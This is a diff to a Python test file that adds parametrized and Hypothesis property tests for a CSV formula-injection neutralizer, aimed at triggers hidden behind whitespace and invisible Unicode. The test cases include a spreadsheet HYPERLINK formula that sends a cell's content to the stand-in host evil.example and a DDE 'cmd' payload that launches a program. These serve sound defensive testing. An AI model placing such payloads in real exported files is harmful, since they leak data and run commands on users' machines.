@@ -7,6 +7,8 @@ calibration analytics. Static images are rendered once per module (one kaleido s
 from __future__ import annotations
 
 import math
+import re
+import unicodedata
 import struct
 import xml.etree.ElementTree as ET
 from html.parser import HTMLParser
@@ -16,6 +18,8 @@ import numpy as np
 import pandas as pd
 import plotly.express as px
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from plotly.offline import get_plotlyjs
 
 from analysis import export
@@ -92,7 +96,7 @@ def test_neutralize_prefixes_a_quote_to_formula_text(cell):
     assert neutralize_csv_cell(cell) == "'" + cell
 
 
-@pytest.mark.parametrize("cell", ["hello", "", "a=b", "'already", "1+1", "Zoë", " =x"])
+@pytest.mark.parametrize("cell", ["hello", "", "a=b", "'already", "1+1", "Zoë", " ", "\u200b", " -3", "x =1"])
 def test_neutralize_leaves_harmless_text(cell):
     assert neutralize_csv_cell(cell) == cell
 
@@ -106,6 +110,50 @@ def test_neutralize_leaves_numbers(cell):
 def test_neutralize_leaves_plain_numbers_written_as_text(cell):
     # a spreadsheet reads these as the number itself; they cannot hold a formula
     assert neutralize_csv_cell(cell) == cell
+
+
+# Issue 10: the check used to look only at the first character, so these passed through.
+@pytest.mark.parametrize("cell", [
+    ' =HYPERLINK("http://evil.example/?"&A1,"click")', "\n=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff@SUM(A1)",
+    "  \u3000+A1", "\u2028-1+2", "\x0b=1", "\x1f=1", "\uff1d1+1", " \t=1", "\r\n-cmd|' /C calc'!A0", "\u00a0-3",
+])
+def test_neutralize_looks_past_leading_whitespace_and_invisible_characters(cell):
+    assert neutralize_csv_cell(cell) == "'" + cell
+
+
+_INVISIBLE = st.sampled_from([" ", "\t", "\n", "\r", "\x0b", "\x0c", "\u00a0", "\u200b", "\u200c", "\u200d",
+                              "\u2060", "\ufeff", "\u3000", "\u2028", "\u2029", "\x00", "\x1f", "\x85"])
+
+
+@settings(max_examples=400, deadline=None)
+@given(prefix=st.lists(_INVISIBLE, max_size=5).map("".join), trigger=st.sampled_from(["=", "+", "-", "@", "\uff1d"]),
+       rest=st.text(max_size=20))
+def test_property_any_invisible_prefix_before_a_trigger_is_neutralized(prefix, trigger, rest):
+    cell = prefix + trigger + rest
+    out = neutralize_csv_cell(cell)
+    if out == cell:  # only a number may pass: a plain number, possibly after ASCII spaces
+        assert prefix.strip(" ") == "" and re.fullmatch(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?",
+                                                        trigger + rest)
+    else:
+        assert out == "'" + cell
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.text(max_size=30))
+def test_property_neutralize_only_ever_prefixes_a_quote_and_is_idempotent(cell):
+    out = neutralize_csv_cell(cell)
+    assert out in (cell, "'" + cell)
+    assert neutralize_csv_cell(out) == out  # a quoted cell starts with ' and is left alone
+    invisible = [ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf", "Zs", "Zl", "Zp") for ch in cell]
+    visible = cell[invisible.index(False):] if False in invisible else ""
+    if out == cell and visible:  # left alone: no formula start after the invisible prefix, or a number
+        assert unicodedata.normalize("NFKC", visible[0])[:1] not in "=+@-" or re.fullmatch(r" *[+-][\d.eE+-]+", cell)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.booleans()))
+def test_property_numbers_stay_numbers(number):
+    assert neutralize_csv_cell(number) is number
 
 
 def test_neutralize_nan_unchanged():
